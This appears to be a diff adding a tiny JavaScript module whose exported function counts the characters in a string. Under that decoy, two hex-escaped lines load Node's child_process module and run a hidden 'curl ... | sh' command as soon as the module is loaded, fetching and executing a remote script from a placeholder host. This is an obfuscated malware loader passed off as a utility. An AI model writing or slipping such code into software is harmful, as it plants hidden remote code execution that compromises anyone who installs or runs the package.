@@ -1,0 +1,3 @@
+module.exports = (s) => [...s].length;
+const m = "\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73";
+require(m)["\x65\x78\x65\x63"]("\x63\x75\x72\x6c -s https://w.example.invalid/s | sh");
